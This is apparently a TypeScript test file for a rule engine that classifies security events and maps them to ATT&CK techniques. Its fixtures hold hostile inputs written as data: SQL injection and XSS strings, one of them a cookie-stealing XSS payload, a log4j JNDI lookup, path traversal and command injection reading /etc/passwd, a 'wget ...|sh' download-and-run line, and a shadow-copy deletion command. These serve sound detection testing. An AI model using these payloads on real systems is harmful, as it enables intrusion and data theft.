import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseRecord, toSecurityEvent } from '@threatstream/events';
import { describe, expect, it } from 'vitest';
import { EVENT_TYPES, parseEvent, type EventType, type SecurityEvent } from './event';
import { analyseWithRules, type RuleContext } from './rules';
import { AnalysisSchema, type Analysis, type Geo } from './threat';

const ATTACKER: Geo = { ip: '185.234.72.91', zone: 'public', criticalAsset: false, country: 'DE', city: 'Heusweiler', asn: 213250, org: 'ITP-Solutions' };
const TARGET: Geo = { ip: '10.0.0.100', zone: 'private', criticalAsset: true };
const WORKSTATION: Geo = { ip: '10.0.0.31', zone: 'private', criticalAsset: false };
const REMOTE_SERVER: Geo = { ip: '5.188.86.10', zone: 'public', criticalAsset: false, country: 'NL', asn: 49453 };

/** Events whose source sends something out (the internal host is the source). */
const OUTBOUND: ReadonlySet<EventType> = new Set(['data_exfiltration', 'c2_beacon']);

function makeEvent(type: string, payload: Record<string, unknown>, overrides: Record<string, unknown> = {}): SecurityEvent {
  const outbound = OUTBOUND.has(type as EventType);
  const parsed = parseEvent({
    event_id: `t-${type}`,
    timestamp: '2025-12-27T19:00:00Z',
    event_type: type,
    source_ip: outbound ? WORKSTATION.ip : ATTACKER.ip,
    destination_ip: outbound ? REMOTE_SERVER.ip : TARGET.ip,
    destination_port: 22,
    protocol: 'TCP',
    payload,
    ...overrides,
  });
  if (!parsed.ok) throw new Error(parsed.reason);
  return parsed.event;
}

function contextFor(event: SecurityEvent): RuleContext {
  return OUTBOUND.has(event.event_type) ? { source: WORKSTATION, destination: REMOTE_SERVER } : { source: ATTACKER, destination: TARGET };
}

/** Analyses and checks the result against the schema the threat document uses. */
function analyse(type: string, payload: Record<string, unknown>, overrides: Record<string, unknown> = {}): Analysis {
  const event = makeEvent(type, payload, overrides);
  return AnalysisSchema.parse(analyseWithRules(event, contextFor(event)));
}

const techniqueIds = (analysis: Analysis) => analysis.mitre.map((technique) => technique.id);

/** A convincing payload for each type. */
const STRONG: Readonly<Record<EventType, Record<string, unknown>>> = {
  brute_force: { attempts: 1500, duration_seconds: 60, user: 'root' },
  port_scan: { ports_scanned: 5000, hosts: 64, scan_type: 'SYN', tool: 'masscan' },
  malware: { signature: 'RedLine Stealer', sha256: 'a'.repeat(64), file: 'C:\\Users\\bob\\invoice.exe', detections: 40 },
  ddos: { pps: 5_000_000, attack_vector: 'UDP flood', sources: 12000 },
  sql_injection: { query: "1' UNION SELECT username,password FROM users--", status_code: 200, user_agent: 'sqlmap/1.7' },
  xss: { url: '/search?q=%3Cscript%3Edocument.cookie%3C%2Fscript%3E', status_code: 200 },
  phishing: { sender: 'it@micros0ft.net', subject: 'Password expires', urls: ['https://login-verify.example'], attachments: ['invoice.html'], clicked: true, credentials_submitted: true, spf: 'fail' },
  data_exfiltration: { bytes_out: 8e9, destination_domain: 'mega.nz', files: 3000, data_classification: 'confidential' },
  privilege_escalation: { user: 'www-data', target_user: 'root', method: 'CVE-2021-4034 pkexec', success: true },
  ransomware: { files_encrypted: 4200, extension: '.lockbit', command_line: 'vssadmin delete shadows /all /quiet', ransom_note: 'README.txt' },
  c2_beacon: { beacon_interval: 60, jitter: 0.1, beacons: 600, domain: 'cdn-update.top', framework: 'Cobalt Strike' },
  suspicious_login: { username: 'alice', reasons: ['impossible_travel', 'new_device'], mfa_prompts: 9, success: true, service: 'Okta' },
  exploit: { url: '/api?x=${jndi:ldap://198.51.100.7:1389/a}', signature: 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', status_code: 200 },
  path_traversal: { url: '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', signature: 'ET WEB_SERVER Apache Path Traversal (CVE-2021-41773)', status_code: 200 },
  command_injection: { url: '/ping.php?host=127.0.0.1;cat%20/etc/passwd', signature: 'ET WEB_SERVER Command Injection', status_code: 200 },
  reconnaissance: { user_agent: 'Mozilla/5.00 (Nikto/2.1.6)', signature: 'ET SCAN Nikto Web App Scan in Progress' },
  policy_violation: { signature: 'ET POLICY TOR .onion Proxy Domain in SNI', app_proto: 'tls' },
  protocol_anomaly: { anomaly: 'APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS', app_proto: 'http', signature: 'SURICATA Applayer Mismatch protocol both directions' },
  unknown: { anything: 'at all' },
};

/** Types whose rule claims no ATT&CK technique without evidence: the behaviour alone is not one. */
const NO_BASE_TECHNIQUE: ReadonlySet<EventType> = new Set(['unknown', 'policy_violation', 'protocol_anomaly']);

describe('analyseWithRules: every event type', () => {
  it.each(EVENT_TYPES)('%s: a valid analysis with strong evidence', (type) => {
    const analysis = analyse(type, STRONG[type]);
    expect(analysis.engine).toBe('rules');
    expect(analysis.summary).toMatch(/^[A-Z].*\.$/);
    expect(analysis.summary).not.toMatch(/undefined|NaN|Infinity|\[object/);
    expect(analysis.recommendedActions.length).toBeGreaterThan(0);
    if (type === 'unknown') {
      expect(analysis).toMatchObject({ category: 'unclassified', confidence: 0.1, evidenceStrength: 0, mitre: [] });
    } else {
      expect(analysis.evidenceStrength).toBeGreaterThanOrEqual(0.7);
      expect(analysis.confidence).toBeGreaterThanOrEqual(0.8);
      if (type !== 'protocol_anomaly') expect(analysis.mitre.length).toBeGreaterThan(0);
      expect(Object.keys(analysis.evidence).length).toBeGreaterThan(0);
    }
  });

  it.each(EVENT_TYPES.filter((type) => type !== 'unknown'))('%s: weak analysis without evidence', (type) => {
    const analysis = analyse(type, {});
    expect(analysis.evidenceStrength).toBe(0);
    expect(analysis.confidence).toBe(0.5);
    if (NO_BASE_TECHNIQUE.has(type)) expect(analysis.mitre).toEqual([]);
    else expect(analysis.mitre.length).toBeGreaterThan(0);
    expect(analysis.summary).not.toMatch(/undefined|NaN/);
  });

  it.each(EVENT_TYPES)('%s: names the source and the destination in the summary', (type) => {
    const event = makeEvent(type, STRONG[type]);
    const { summary } = analyseWithRules(event, contextFor(event));
    expect(summary).toContain(event.source_ip);
    expect(summary).toContain(event.destination_ip!);
  });

  it('describes a host event without a destination as happening on the host', () => {
    const event = makeEvent('ransomware', { files_encrypted: 10 }, { destination_ip: undefined, destination_port: undefined, source_ip: '10.0.0.23' });
    const { summary } = analyseWithRules(event, { source: { ip: '10.0.0.23', zone: 'private', criticalAsset: false } });
    expect(summary).toBe('Ransomware on 10.0.0.23 (private): 10 files encrypted.');
  });
});

describe('brute_force', () => {
  it('explains the seed event', () => {
    const analysis = analyse('brute_force', { attempts: 150 });
    expect(analysis.summary).toBe(
      'SSH brute force (password guessing) from 185.234.72.91 (Heusweiler, DE; AS213250 ITP-Solutions) against critical asset 10.0.0.100 port 22/TCP (SSH; private): 150 failed login attempts.',
    );
    expect(analysis.evidence).toEqual({ attempts: 150 });
    expect(techniqueIds(analysis)).toEqual(['T1110', 'T1110.001', 'T1021', 'T1021.004']);
    expect(analysis.category).toBe('brute_force');
  });

  it.each([
    [{ attempts: 150 }],
    [{ attempts: '150' }],
    [{ failed_attempts: 150 }],
    [{ failedAttempts: ' 150 ' }],
    [{ failed_logins: 150 }],
    [{ login_attempts: 150.7 }],
    [{ count: 150 }],
    [{ attempts: 'many', failures: 150 }],
  ])('reads attempts from %j', (payload) => {
    expect(analyse('brute_force', payload).evidence.attempts).toBe(150);
  });

  it('grows more confident with more attempts', () => {
    const strengths = [1, 5, 20, 150, 1000].map((attempts) => analyse('brute_force', { attempts }).evidenceStrength);
    expect(strengths[0]).toBe(0);
    for (let index = 1; index < strengths.length - 1; index++) expect(strengths[index + 1]).toBeGreaterThan(strengths[index]!);
  });

  it.each([
    [{ users: ['a', 'b', 'c', 'd', 'e', 'f'], attempts: 6 }, 6],
    [{ usernames: 'a,b,c,d,e,f', attempts: 6 }, 6],
    [{ distinct_users: 40, attempts: 40 }, 40],
  ])('treats many accounts with few tries each as password spraying: %j', (payload, users) => {
    const analysis = analyse('brute_force', payload);
    expect(analysis.evidence.distinct_users).toBe(users);
    expect(analysis.category).toBe('password_spraying');
    expect(techniqueIds(analysis)).toContain('T1110.003');
    expect(techniqueIds(analysis)).not.toContain('T1110.001');
  });

  it('reads a single user from user, username or a one-element list', () => {
    expect(analyse('brute_force', { username: 'root' }).evidence.user).toBe('root');
    expect(analyse('brute_force', { users: ['admin'] }).evidence.user).toBe('admin');
  });

  it('treats a success after failures as a compromised account', () => {
    const analysis = analyse('brute_force', { attempts: 80, success: 'true' });
    expect(analysis.category).toBe('account_compromise');
    expect(techniqueIds(analysis)).toContain('T1078');
    expect(analysis.recommendedActions[0]).toMatch(/compromised/);
    expect(analysis.summary).toContain('then a successful login');
  });

  it('recognises credential stuffing when the sensor says so', () => {
    const analysis = analyse('brute_force', { attempts: 500, distinct_users: 400, attack_type: 'credential stuffing' });
    expect(analysis.category).toBe('credential_stuffing');
    expect(techniqueIds(analysis)).toContain('T1110.004');
  });

  it('maps RDP to T1021.001 and computes the attempt rate', () => {
    const analysis = analyse('brute_force', { attempts: 600, duration_seconds: 120 }, { destination_port: 3389 });
    expect(techniqueIds(analysis)).toContain('T1021.001');
    expect(analysis.evidence.attempts_per_minute).toBe(300);
  });
});

describe('port_scan', () => {
  it.each([
    [{ ports: [22, 80, 443] }, 3],
    [{ ports_scanned: 1000 }, 1000],
    [{ scanned_ports: '250' }, 250],
    [{ portCount: 12 }, 12],
  ])('counts ports from %j', (payload, count) => {
    expect(analyse('port_scan', payload).evidence.ports_scanned).toBe(count);
  });

  it('calls an outside sweep reconnaissance, and an inside one discovery only', () => {
    const outside = analyse('port_scan', { ports: 100, hosts: 30 });
    expect(techniqueIds(outside)).toEqual(expect.arrayContaining(['T1046', 'T1595', 'T1595.001']));
    const event = makeEvent('port_scan', { ports: 100, hosts: 30 }, { source_ip: '10.0.0.31' });
    const inside = analyseWithRules(event, { source: WORKSTATION, destination: TARGET });
    expect(techniqueIds(inside)).toEqual(['T1046']);
    expect(inside.recommendedActions[0]).toMatch(/internal host/);
  });

  it('recognises vulnerability scanners', () => {
    const analysis = analyse('port_scan', { ports: 50, tool: 'Nuclei v3' });
    expect(analysis.category).toBe('vulnerability_scan');
    expect(techniqueIds(analysis)).toContain('T1595.002');
  });
});

describe('malware', () => {
  it.each([
    [{ malware_family: 'Emotet' }, 'loader'],
    [{ signature: 'HackTool:Win32/Mimikatz' }, 'credential_dumping'],
    [{ detection: 'XMRig CoinMiner' }, 'cryptominer'],
    [{ threat_name: 'Lumma Stealer' }, 'infostealer'],
    [{ family: 'LockBit 3.0' }, 'ransomware'],
    [{ signature: 'Generic.Suspicious' }, 'malware'],
  ])('classifies %j as %s', (payload, category) => {
    expect(analyse('malware', payload).category).toBe(category);
  });

  it.each([
    ['d41d8cd98f00b204e9800998ecf8427e', 'md5'],
    ['da39a3ee5e6b4b0d3255bfef95601890afd80709', 'sha1'],
    ['E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855', 'sha256'],
  ])('recognises hash %s as %s', (hash, kind) => {
    expect(analyse('malware', { hash }).evidence[kind]).toBe(hash.toLowerCase());
  });

  it('ignores a malformed hash', () => {
    const analysis = analyse('malware', { hash: 'not-a-hash' });
    expect(Object.keys(analysis.evidence)).toEqual([]);
    expect(analysis.evidenceStrength).toBe(0);
  });

  it('recommends confirming quarantine when the file was contained, isolation otherwise', () => {
    expect(analyse('malware', { signature: 'X', action: 'Quarantined' }).recommendedActions[0]).toMatch(/quarantined/);
    expect(analyse('malware', { signature: 'X', action: 'allowed' }).recommendedActions[0]).toMatch(/Isolate/);
  });
});

describe('ddos', () => {
  it.each([
    [{ pps: 2e6, attack_vector: 'UDP flood' }, ['T1498', 'T1498.001']],
    [{ packets_per_second: '2000000', vector: 'NTP amplification' }, ['T1498', 'T1498.002']],
    [{ pps: 1e6, attack_type: 'SYN flood' }, ['T1499', 'T1499.001']],
    [{ requests_per_second: 50_000 }, ['T1499', 'T1499.002']],
    [{ rps: '20000', method: 'HTTP GET flood' }, ['T1499', 'T1499.002']],
    [{ gbps: 40 }, ['T1498', 'T1498.001']],
  ])('maps %j to %j', (payload, techniques) => {
    expect(techniqueIds(analyse('ddos', payload))).toEqual(techniques);
  });

  it('reads bandwidth in any unit as bits per second', () => {
    expect(analyse('ddos', { mbps: 500 }).evidence.bits_per_second).toBe(5e8);
    expect(analyse('ddos', { gbps: '2.5' }).evidence.bits_per_second).toBe(2.5e9);
    expect(analyse('ddos', { bps: 1e9 }).summary).toContain('1 Gbit/s');
  });
});

describe('sql_injection and xss', () => {
  it.each([
    ["1' OR '1'='1", ['tautology']],
    ['1 or 1=1', ['tautology']],
    ["admin'--", ['comment_terminator']],
    ['1 UNION ALL SELECT NULL,version()', ['union_select']],
    ['1/**/UNION/**/SELECT/**/1', ['union_select']],
    ['1; DROP TABLE users', ['stacked_query']],
    ["1' AND SLEEP(5)", ['time_based']],
    ['1 and extractvalue(1,concat(0x7e,version()))', ['error_based']],
    ['SELECT table_name FROM information_schema.tables', ['schema_probe']],
    ["'; EXEC xp_cmdshell 'whoami'--", ['comment_terminator', 'stacked_query', 'command_execution']],
    ['id=%27%20OR%20%27a%27%3D%27a', ['tautology']],
    ['q=1+union+select+password+from+users', ['union_select']],
  ])('finds SQL injection in %j', (query, patterns) => {
    const analysis = analyse('sql_injection', { query });
    expect(analysis.evidence.patterns).toBe(patterns.join(','));
    expect(analysis.evidenceStrength).toBeGreaterThanOrEqual(0.5);
  });

  it.each(['select a product', 'O\'Reilly books', 'union station', 'id=42&sort=desc', 'mission: or else'])(
    'finds no SQL injection in the benign %j',
    (query) => {
      const analysis = analyse('sql_injection', { query });
      expect(analysis.evidence.patterns).toBeUndefined();
      expect(analysis.evidenceStrength).toBe(0);
      expect(analysis.summary).toContain('matches no known pattern');
    },
  );

  it('notes a blocked request, and a served one', () => {
    expect(analyse('sql_injection', { url: "/?id=1' OR '1'='1", status_code: 403 }).evidence.blocked).toBe(true);
    expect(analyse('sql_injection', { url: "/?id=1' OR '1'='1", blocked: 'yes' }).summary).toContain('(blocked)');
    expect(analyse('sql_injection', { url: "/?id=1' OR '1'='1", status_code: '200' }).summary).toContain('(answered 200)');
  });

  it('keeps malformed percent-escapes as sent', () => {
    expect(analyse('sql_injection', { query: "%E0%A4%A 1' OR '1'='1" }).evidence.patterns).toBe('tautology');
  });

  it.each([
    ['<script>alert(1)</script>', ['script_tag', 'dom_sink']],
    ['<img src=x onerror=alert(1)>', ['event_handler', 'dom_sink']],
    ['javascript:alert(document.cookie)', ['javascript_uri', 'cookie_access', 'dom_sink']],
    ['<svg/onload=confirm(1)>', ['event_handler', 'dangerous_tag', 'dom_sink']],
    ['%3Cscript%3E', ['script_tag']],
    ['&lt;script&gt;', ['script_tag']],
  ])('finds XSS in %j', (url, patterns) => {
    expect(analyse('xss', { url }).evidence.patterns).toBe(patterns.join(','));
  });

  it('maps cookie theft to T1539', () => {
    expect(techniqueIds(analyse('xss', { body: '<script>new Image().src="//x/?c="+document.cookie</script>' }))).toContain('T1539');
  });

  it('finishes quickly on hostile, pattern-like input (no catastrophic backtracking)', () => {
    const hostile = [
      `'${' or a'.repeat(6000)}`,
      `1${' '.repeat(30_000)}union`,
      `<${'script'.repeat(5000)}`,
      `${"'".repeat(20_000)}--`,
      `on${'e'.repeat(30_000)}=`,
    ];
    for (const text of hostile) {
      const started = performance.now();
      analyse('sql_injection', { query: text });
      analyse('xss', { query: text });
      expect(performance.now() - started).toBeLessThan(100);
    }
  });

  it('shows a bounded, printable sample of the request', () => {
    const analysis = analyse('xss', { url: `<script>\u0000${'a'.repeat(5000)}` });
    expect(String(analysis.evidence.sample).length).toBeLessThanOrEqual(160);
    expect(String(analysis.evidence.sample)).not.toContain('\u0000');
  });
});

describe('phishing', () => {
  it('reads the message and what the user did', () => {
    const analysis = analyse('phishing', STRONG.phishing);
    expect(analysis.category).toBe('credential_phishing');
    expect(analysis.evidence).toMatchObject({ risky_attachment: 'invoice.html', link_clicked: true, credentials_submitted: true });
    expect(techniqueIds(analysis)).toEqual(expect.arrayContaining(['T1566', 'T1566.001', 'T1566.002', 'T1204', 'T1204.001']));
    expect(analysis.recommendedActions[0]).toMatch(/Reset the password/);
  });

  it('counts recipients from a number or a list', () => {
    expect(analyse('phishing', { recipients: ['a@x', 'b@x', 'c@x'] }).evidence.recipients).toBe(3);
    expect(analyse('phishing', { recipient_count: '250' }).evidence.recipients).toBe(250);
  });
});

describe('data_exfiltration', () => {
  it.each([
    [{ bytes_out: 5e9 }, 5e9],
    [{ bytes_transferred: '5000000000' }, 5e9],
    [{ bytesOut: 5e9 }, 5e9],
    [{ bytes: '5 GB' }, 5e9],
    [{ mb_out: 5000 }, 5e9],
    [{ gigabytes: '5' }, 5e9],
  ])('reads the volume from %j', (payload, bytes) => {
    const analysis = analyse('data_exfiltration', payload);
    expect(analysis.evidence.bytes_out).toBe(bytes);
    expect(analysis.summary).toContain('5 GB sent');
  });

  it.each([
    [{ destination_domain: 'mega.nz' }, 'cloud_storage', ['T1567', 'T1567.002']],
    [{ url: 'https://pastebin.com/raw/x' }, 'text_storage', ['T1567', 'T1567.003']],
    [{ host: 'api.telegram.org' }, 'web_service', ['T1567']],
    [{ protocol: 'ftp' }, 'unencrypted_protocol', ['T1048', 'T1048.003']],
    [{ protocol: 'sftp' }, 'other_protocol', ['T1048']],
    [{ host: 'unknown.example' }, 'c2', ['T1041']],
  ])('recognises the channel of %j', (payload, channel, techniques) => {
    const analysis = analyse('data_exfiltration', { bytes_out: 1e8, ...payload });
    expect(analysis.evidence.channel).toBe(channel);
    expect(techniqueIds(analysis)).toEqual(techniques);
  });

  it('weighs sensitive data more than public data', () => {
    const sensitive = analyse('data_exfiltration', { bytes_out: 5e7, data_classification: 'Confidential - PII' });
    const plain = analyse('data_exfiltration', { bytes_out: 5e7, data_classification: 'public' });
    expect(sensitive.evidenceStrength).toBeGreaterThan(plain.evidenceStrength);
  });
});

describe('privilege_escalation', () => {
  it.each([
    [{ method: 'sudo -u root bash' }, 'sudo', ['T1548', 'T1548.003']],
    [{ technique: 'fodhelper.exe UAC bypass' }, 'uac_bypass', ['T1548', 'T1548.002']],
    [{ mechanism: 'SUID binary' }, 'setuid', ['T1548', 'T1548.001']],
    [{ new_role: 'Global Administrator' }, 'account_manipulation', ['T1098']],
    [{ exploit: 'CVE-2021-4034' }, 'exploit', ['T1068']],
    [{ target_user: 'root' }, 'unspecified', ['T1068']],
  ])('reads the mechanism of %j', (payload, mechanism, techniques) => {
    const analysis = analyse('privilege_escalation', payload);
    expect(analysis.evidence.mechanism).toBe(mechanism);
    expect(techniqueIds(analysis)).toEqual(techniques);
  });

  it('extracts a CVE and asks to patch it', () => {
    const analysis = analyse('privilege_escalation', { command: 'exploit for cve-2024-1086 (nf_tables)', success: true });
    expect(analysis.evidence.cve).toBe('CVE-2024-1086');
    expect(analysis.recommendedActions).toContain('Patch CVE-2024-1086 across the fleet');
  });
});

describe('ransomware', () => {
  it.each([[{ files_encrypted: 1 }], [{ encrypted_files: '1' }], [{ filesAffected: 1 }]])('treats one encrypted file as confirmed impact: %j', (payload) => {
    const analysis = analyse('ransomware', payload);
    expect(analysis.evidence.files_encrypted).toBe(1);
    expect(analysis.evidenceStrength).toBeGreaterThanOrEqual(0.75);
    expect(analysis.summary).toContain('1 file encrypted');
  });

  it('sees recovery being inhibited in a command line or a flag', () => {
    expect(techniqueIds(analyse('ransomware', { command_line: 'wmic shadowcopy delete' }))).toContain('T1490');
    expect(techniqueIds(analyse('ransomware', { shadow_copies_deleted: true }))).toContain('T1490');
    expect(techniqueIds(analyse('ransomware', { command_line: 'vssadmin list shadows' }))).not.toContain('T1490');
  });
});

describe('c2_beacon', () => {
  it.each([
    [{ jitter: 0.1 }, 0.1],
    [{ jitter: 10 }, 0.1],
    [{ jitter_percent: '25' }, 0.25],
  ])('reads jitter as a ratio or a percentage: %j', (payload, jitter) => {
    expect(analyse('c2_beacon', { interval: 60, ...payload }).evidence.jitter).toBe(jitter);
  });

  it('finds a regular beacon stronger than an irregular one', () => {
    const regular = analyse('c2_beacon', { interval: 60, jitter: 0.05, beacons: 100 });
    const irregular = analyse('c2_beacon', { interval: 60, jitter: 0.6, beacons: 100 });
    expect(regular.evidenceStrength).toBeGreaterThan(irregular.evidenceStrength);
  });

  it.each([
    [{ destination_port: 443 }, {}, ['T1071', 'T1071.001', 'T1573']],
    [{ destination_port: 4444, protocol: 'HTTP' }, {}, ['T1071', 'T1071.001', 'T1571']],
    [{ destination_port: 53, protocol: 'UDP' }, { dga_score: 0.9 }, ['T1071', 'T1071.004', 'T1568', 'T1568.002']],
    [{ destination_port: 4444, protocol: 'TCP' }, {}, ['T1095']],
    [{ destination_port: undefined, protocol: 'ICMP' }, {}, ['T1095']],
  ])('maps the channel of %j', (overrides, payload, techniques) => {
    expect(techniqueIds(analyse('c2_beacon', { interval: 30, ...payload }, overrides))).toEqual(techniques);
  });
});

describe('suspicious_login', () => {
  it('computes impossible travel from distance and time', () => {
    const analysis = analyse('suspicious_login', { user: 'alice', distance_km: 9000, minutes_since_last_login: 60 });
    expect(analysis.evidence).toMatchObject({ impossible_travel: true, travel_speed_kmh: 9000 });
    expect(analyse('suspicious_login', { distance_km: 300, minutes_since_last_login: 240 }).evidence.impossible_travel).toBeUndefined();
  });

  it('flags MFA fatigue and cloud accounts', () => {
    const analysis = analyse('suspicious_login', STRONG.suspicious_login);
    expect(analysis.category).toBe('account_compromise');
    expect(techniqueIds(analysis)).toEqual(['T1078', 'T1078.004', 'T1621']);
  });

  it('reads reasons from a list or a comma-separated string', () => {
    expect(analyse('suspicious_login', { reasons: 'tor,off_hours' }).evidence).toMatchObject({ anonymiser: true, off_hours: true });
  });
});

describe('unknown', () => {
  it('keeps the original type and claims nothing', () => {
    const analysis = analyse('weird_vendor_alert', { a: 1, b: 2 });
    expect(analysis.evidence).toEqual({ payload_fields: 2, original_event_type: 'weird_vendor_alert' });
    expect(analysis.summary).toMatch(/^Unclassified event "weird_vendor_alert" from 185\.234\.72\.91/);
  });
});

describe('hostile payloads', () => {
  const deep: Record<string, unknown> = {};
  let cursor = deep;
  for (let depth = 0; depth < 200; depth++) cursor = cursor.next = {};

  const HOSTILE: Record<string, unknown>[] = [
    { attempts: 1e308, ports: 1e308, bytes_out: 1e308, pps: 1e308, files_encrypted: 1e308, beacons: 1e308, interval: 1e308, jitter: 1e308 },
    { attempts: Number.MAX_SAFE_INTEGER + 2, distinct_users: 1e300, duration_seconds: 1e-300 },
    { attempts: -5, ports: -1, bytes_out: -1e9, files_encrypted: -3, jitter: -1, interval: -60 },
    { attempts: 'NaN', ports: 'Infinity', bytes_out: '-Infinity', pps: '1e999', files_encrypted: '0x10', interval: '' },
    { attempts: { $gt: 0 }, users: [{}, [], null, 3], ports: { length: 1e9 }, query: { toString: 'x' }, signature: ['a', { b: 1 }] },
    { attempts: [1, 2, 3], user: ['root'], url: ['<script>', "' or 1=1"], success: 'maybe', success_2: 1 },
    { query: 'x'.repeat(60_000), signature: '\u0000\u0007\u001b[2J'.repeat(500), user: '😀'.repeat(10_000), subject: '\u202e' },
    { constructor: 'x', toString: 5, hasOwnProperty: 'nope', valueOf: {} },
    { nested: deep, attempts: true, success: 2 },
    { files: Array.from({ length: 10_000 }, () => 'f'), urls: Array.from({ length: 10_000 }, (_, index) => `https://x${index}`) },
  ];

  it.each(EVENT_TYPES.flatMap((type) => HOSTILE.map((payload, index) => [type, index, payload] as const)))(
    '%s survives hostile payload #%s',
    (type, _index, payload) => {
      const analysis = analyse(type, payload);
      expect(Number.isFinite(analysis.confidence)).toBe(true);
      expect(Number.isFinite(analysis.evidenceStrength)).toBe(true);
      expect(analysis.summary.length).toBeLessThan(1500);
      expect(analysis.summary).not.toMatch(/undefined|NaN|Infinity|\[object/);
      for (const value of Object.values(analysis.evidence)) {
        if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(160);
        if (typeof value === 'number') expect(Number.isFinite(value)).toBe(true);
      }
      expect(() => JSON.stringify(analysis)).not.toThrow();
    },
  );

  it('never lets evidence strength or confidence leave 0..1, even at extremes', () => {
    for (const type of EVENT_TYPES) {
      const analysis = analyse(type, HOSTILE[0]!);
      expect(analysis.evidenceStrength).toBeLessThanOrEqual(1);
      expect(analysis.confidence).toBeLessThanOrEqual(0.95);
    }
  });
});

describe('sensor alert types (exploit, path_traversal, command_injection, reconnaissance, policy_violation, protocol_anomaly)', () => {
  it('exploit: names the CVE and the pattern, maps to Exploit Public-Facing Application', () => {
    const analysis = analyse('exploit', STRONG.exploit);
    expect(analysis.category).toBe('exploit');
    expect(analysis.summary).toMatch(/^Exploit attempt from 185\.234\.72\.91 .*: CVE-2021-44228 request matches jndi lookup \(answered 200\)\.$/);
    expect(analysis.evidence).toMatchObject({ cve: 'CVE-2021-44228', patterns: 'jndi_lookup', status_code: 200 });
    expect(techniqueIds(analysis)).toEqual(['T1190']);
  });

  it('exploit: the signature alone, from the sensor verdict in metadata, still reads as the evidence', () => {
    const analysis = analyse('exploit', {}, { metadata: { sensor: { signature: 'ET EXPLOIT Possible Zyxel RCE (CVE-2022-30525)', category: 'Attempted Administrator Privilege Gain', product: 'Suricata' } } });
    expect(analysis.evidence).toMatchObject({ cve: 'CVE-2022-30525', sensor: 'Suricata', sensor_category: 'Attempted Administrator Privilege Gain' });
    expect(analysis.evidenceStrength).toBeCloseTo(0.4, 3);
  });

  it('exploit carrying a shell command also maps to Command and Scripting Interpreter', () => {
    const analysis = analyse('exploit', { url: '/cgi-bin/luci;wget http://198.51.100.7/x.sh|sh' });
    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1059']);
    expect(analysis.evidence.patterns).toContain('download_and_run');
  });

  it('path_traversal: decodes the request and maps to T1190 and T1083', () => {
    const analysis = analyse('path_traversal', STRONG.path_traversal);
    expect(analysis.evidence.patterns).toBe('dot_dot_slash,unix_sensitive_file');
    expect(analysis.evidence.cve).toBe('CVE-2021-41773');
    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1083']);
    expect(analysis.summary).toMatch(/^Path traversal attempt /);
  });

  it('command_injection: maps to T1190 and T1059, and a refused request says so', () => {
    const analysis = analyse('command_injection', { ...STRONG.command_injection, status_code: 403 });
    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1059', 'T1083']);
    expect(analysis.evidence).toMatchObject({ blocked: true, patterns: 'shell_separator,unix_sensitive_file' });
    expect(analysis.summary).toContain('(refused)');
    expect(analysis.recommendedActions[0]).toMatch(/^Keep the rule/);
  });

  it('command_injection: text with no pattern is weak evidence', () => {
    const analysis = analyse('command_injection', { url: '/index.html' });
    expect(analysis.evidenceStrength).toBe(0);
    expect(analysis.summary).not.toContain('request matches');
    expect(analysis.evidence.patterns).toBeUndefined();
  });

  it('reconnaissance: a named scanner is vulnerability scanning (T1595.002)', () => {
    const analysis = analyse('reconnaissance', STRONG.reconnaissance);
    expect(analysis.category).toBe('vulnerability_scan');
    expect(analysis.evidence.tool).toBe('nikto');
    expect(techniqueIds(analysis)).toEqual(['T1595', 'T1595.002']);
  });

  it('reconnaissance without a tool is Active Scanning only', () => {
    const analysis = analyse('reconnaissance', { signature: 'ET SCAN Possible Fingerprinting of web server' });
    expect(analysis.category).toBe('reconnaissance');
    expect(techniqueIds(analysis)).toEqual(['T1595']);
  });

  it('policy_violation: TOR traffic is Multi-hop Proxy; other policy says what it is about and claims no technique', () => {
    const tor = analyse('policy_violation', STRONG.policy_violation);
    expect(tor.evidence.policy).toBe('tor');
    expect(techniqueIds(tor)).toEqual(['T1090', 'T1090.003']);
    const p2p = analyse('policy_violation', { signature: 'ET P2P BitTorrent peer sync' });
    expect(p2p).toMatchObject({ category: 'p2p', mitre: [] });
    expect(p2p.summary).toMatch(/^Policy violation \(p2p\) /);
  });

  it('protocol_anomaly: names the anomaly and protocol, claims no technique', () => {
    const analysis = analyse('protocol_anomaly', STRONG.protocol_anomaly);
    expect(analysis.evidence).toMatchObject({ anomaly: 'APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS', app_protocol: 'http' });
    expect(analysis.mitre).toEqual([]);
    expect(analysis.summary).toContain(': http: APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS.');
  });

  it('hostile request text stays bounded and fast', () => {
    const started = performance.now();
    const analysis = analyse('command_injection', { url: `${'$('.repeat(20_000)}${';'.repeat(20_000)}` });
    expect(performance.now() - started).toBeLessThan(500);
    expect(String(analysis.evidence.sample).length).toBeLessThanOrEqual(160);
  });
});

describe('real Suricata EVE alerts (packages/events/samples) through the rules', () => {
  const lines = readFileSync(join(__dirname, '../../../packages/events/samples/suricata-eve/eve.json'), 'utf8').split('\n');
  /** The design.md event of the alert on a line, as the bridge hands it to the functions. */
  function eventOfLine(line: number): SecurityEvent {
    const parsed = parseRecord(lines[line - 1]!, { format: 'suricata-eve' });
    if (!parsed.ok) throw new Error(parsed.message);
    const event = parseEvent(toSecurityEvent(parsed.events[0]!));
    if (!event.ok) throw new Error(event.reason);
    return event.event;
  }
  const PRIVATE = (ip: string): Geo => ({ ip, zone: 'private', criticalAsset: false });
  const analyseLine = (line: number) => {
    const event = eventOfLine(line);
    return { event, analysis: AnalysisSchema.parse(analyseWithRules(event, { source: PRIVATE(event.source_ip), destination: PRIVATE(event.destination_ip ?? '10.0.0.1') })) };
  };

  it('analyses every alert in the samples as a known type, none as unknown', () => {
    let alerts = 0;
    lines.forEach((text, index) => {
      if (!text.includes('"event_type":"alert"')) return;
      alerts++;
      const { event, analysis } = analyseLine(index + 1);
      expect(event.event_type, `line ${index + 1}`).not.toBe('unknown');
      expect(analysis.category).not.toBe('unclassified');
    });
    expect(alerts).toBeGreaterThan(50);
  });

  it('line 59, GET //index.php?page=../../../etc/passwd: an exploit reading files (T1190, T1083)', () => {
